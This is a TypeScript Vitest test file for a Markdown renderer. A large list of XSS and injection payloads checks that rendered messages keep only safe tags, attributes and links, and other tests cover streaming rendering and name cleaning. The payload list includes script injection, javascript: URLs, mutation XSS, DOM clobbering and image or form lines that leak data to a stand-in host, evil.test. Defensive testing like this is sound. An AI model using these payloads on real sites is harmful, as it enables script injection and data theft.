// @vitest-environment jsdom
// DOMPurify asks for a complete DOM.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { GrowingMarkdown, plainName, render } from '../src/markdown.js';

const strict = { allowRemoteImages: false };

function rendered(text: string, options = strict): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = render(text, options);
  return element;
}

/** What a browser would do with each: run something, load something, submit something, or be fooled about what is where. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<link rel=prefetch href="https://evil.test/?leak">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="background:url(https://evil.test/leak)">x</p>',
  '<div style="position:fixed;inset:0">over everything</div>',
  '<form action="https://evil.test"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button onclick=alert(1)>x</button>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster="https://evil.test/leak"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.test/leak?secret)',
  '![x][1]\n\n[1]: https://evil.test/leak',
  '![x](//evil.test/leak)',
  '<img src="https://evil.test/leak">',
  '<img srcset="https://evil.test/leak 1x">',
  '<picture><source srcset="https://evil.test/leak"><img></picture>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="https://evil.test/leak"><tr><td>x</td></tr></table>',
  '<a id=document name=cookie>clobber</a>',
  '<form id=document><input name=cookie></form>',
  '<img name=getElementById>',
  '<a class="jp-mod-active" data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</a>',
  '<div class="jcs-mine" data-step-id="1" role="article" aria-label="Teacher">I am the teacher</div>',
  '<button data-commandlinker-command="x">x</button>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '$<img src=x onerror=alert(1)>$',
  '$$</code><script>alert(1)</script>$$',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '- [ ] <input type=text onfocus=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="https://x.test" target=_self rel=opener ping="https://evil.test">x</a>',
];

const TAGS = 'A,B,BLOCKQUOTE,BR,CODE,DEL,DETAILS,EM,H1,H2,H3,H4,H5,H6,HR,I,IMG,INPUT,KBD,LI,MARK,OL,P,PRE,S,SPAN,STRONG,SUB,SUMMARY,SUP,TABLE,TBODY,TD,TH,THEAD,TR,UL'.split(',');
const ATTRIBUTES = new Set(
  'align,alt,checked,class,colspan,disabled,href,open,rel,rowspan,src,start,target,title,type'.split(','),
);

describe('what a message may not do', () => {
  it('is tried with many payloads', () => expect(PAYLOADS.length).toBeGreaterThan(60));

  it.each(PAYLOADS)('%s', (payload) => {
    for (const node of rendered(payload).querySelectorAll('*')) {
      expect(TAGS).toContain(node.tagName);
      for (const attribute of node.attributes) expect(ATTRIBUTES).toContain(attribute.name);
      const link = node.getAttribute('href');
      if (link !== null) {
        expect(link.trim()).toMatch(/^(https?:|mailto:|#)/i);
        expect(node.getAttribute('rel')).toBe('noopener noreferrer nofollow');
        expect(node.getAttribute('target')).toBe('_blank');
      }
      if (node.tagName === 'IMG') expect(node.getAttribute('src') ?? '').toMatch(/^$|^data:image\/(png|jpeg|gif|webp|avif);/);
      if (node.tagName === 'INPUT') expect(node.getAttribute('type')).toBe('checkbox');
      for (const name of node.classList) expect(name).toMatch(/^language-[\w+#.-]+$|^jcs-image-link$/);
    }
  });
});

describe('what a message may do', () => {
  it('is Markdown as GitHub has it', () => {
    const text = '# Title\n\n**bold** and `code`\n\n| a |\n|---|\n| 1 |\n\n- [x] done\n\n```python\nx = 1\n```';
    const element = rendered(text);
    expect(element.querySelector('h1')?.textContent).toBe('Title');
    expect(element.querySelector('td')?.textContent).toBe('1');
    expect(element.querySelector('input')?.hasAttribute('disabled')).toBe(true);
    expect(element.querySelector('pre code')?.className).toBe('language-python');
  });

  it('shows a remote image as a link, unless the author allows it to be loaded', () => {
    const text = '![a cat](https://pictures.test/cat.png)';
    expect(rendered(text).querySelector('img')).toBeNull();
    expect(rendered(text).querySelector('a')?.textContent).toContain('a cat');
    const image = rendered(text, { allowRemoteImages: true }).querySelector('img');
    expect(image?.getAttribute('src')).toBe('https://pictures.test/cat.png');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('is mathematics between dollars, and prices are not', () => {
    expect(rendered('$e^{i\\pi}$').querySelector('code')?.className).toBe('language-math');
    expect(rendered('$$\n\\int x\n$$').querySelector('code')?.className).toBe('language-math-display');
    expect(rendered('It costs $5 and $10.').querySelector('code')).toBeNull();
    expect(rendered('Between $5 and\n$10, or $ 5 $.').querySelector('code')).toBeNull();
  });

  it('is mathematics as language models write it, and an escaped bracket is a bracket', () => {
    expect(rendered('So \\(a_1 < b_2\\) holds.').querySelector('code.language-math')?.textContent).toBe('a_1 < b_2');
    expect(rendered('\\[\n\\frac12\n\\]').querySelector('code.language-math-display')?.textContent).toBe('\\frac12');
    const escaped = rendered('\\[not a link\\](x) and \\(brackets');
    expect(escaped.querySelector('code, a')).toBeNull();
    expect(escaped.textContent).toContain('[not a link](x) and (brackets');
  });

  it('is a formula over many lines, whatever they begin with', () => {
    const element = rendered('So:\n$$\na\n= b\n- c\n===\n\\\\ 1. d\n$$\nDone.');
    expect(element.querySelector('h1, ul, ol')).toBeNull();
    expect(element.querySelector('code.language-math-display')?.textContent).toContain('- c');
    expect(element.textContent).toContain('Done.');
  });
});

describe('Markdown that grows', () => {
  const text = 'First paragraph.\n\n- one\n- two\n\n```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. loose\n\n   ```\n   code\n   ```\n\n2. list\n\n   more of it\n\n$$\nx\n- y\n$$\n\n> quote\n> more\n\nLast **one**.';

  it('has at each moment the same look as if it were rendered whole', () => {
    const growing = new GrowingMarkdown();
    for (let end = 1; end <= text.length; end++) {
      const parts = growing.update(text.slice(0, end)).flat();
      const look = parts.map((part) => render(part, strict)).join('').replace(/\s+/g, '');
      expect(look).toBe(render(text.slice(0, end), strict).replace(/\s+/g, ''));
    }
  });

  it('loses and doubles nothing, whatever the text and wherever it is cut', () => {
    const piece = fc.constantFrom('- a', '1. b', '\n', '\n\n', '\r\n', '\r', '  ', '\t', '```', '$$', '> q', '# h', '|a|b|', '|-|-|', '<b>', '<!--', 'word', '😀', '[x]: y');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const growing = new GrowingMarkdown();
        let text = '';
        for (const next of pieces) {
          text += next;
          expect(growing.update(text).flat().join('')).toBe(text.replace(/\r\n?/g, '\n'));
        }
      }),
    );
  });

  it('does not touch finished parts again', () => {
    const growing = new GrowingMarkdown();
    const before = growing.update('One.\n\nTwo.\n\nThr').flat();
    const after = growing.update('One.\n\nTwo.\n\nThree.\n\nFour').flat();
    expect(after.slice(0, before.length - 1)).toEqual(before.slice(0, -1));
  });

  it('begins anew when the text is another', () => {
    const growing = new GrowingMarkdown();
    growing.update('One.\n\nTwo.');
    expect(growing.update('Other').flat()).toEqual(['Other']);
  });

  it('gives groups that are full as the same arrays again', () => {
    const growing = new GrowingMarkdown();
    let text = '';
    let before = growing.update(text);
    for (let number = 0; number < 800; number += 1) {
      text += `Paragraph ${number}.\n\n`;
      const after = growing.update(text);
      before.slice(0, -1).forEach((group, index) => expect(after[index]).toBe(group));
      before = after;
    }
    expect(before.length).toBeGreaterThan(5);
    expect(before.length).toBeLessThan(10);
  });

  it.each([
    ['[name]\n\n[name]: https://example.com', true],
    ['<details>\n\ninside\n\n</details>', true],
    ['A paragraph with `<b>`.\n\n- a list', false],
  ])('knows whether blocks mean something to each other: %j', (markdown, isEntangled) => {
    const growing = new GrowingMarkdown();
    growing.update(markdown);
    expect(growing.isEntangled).toBe(isEntangled);
  });
});

it('takes out of names what could make them look like others', () => {
  expect(plainName('\u202eehcaeT\u200b\u0000')).toBe('ehcaeT');
  expect(plainName('x'.repeat(1_000_000))).toHaveLength(100);
});
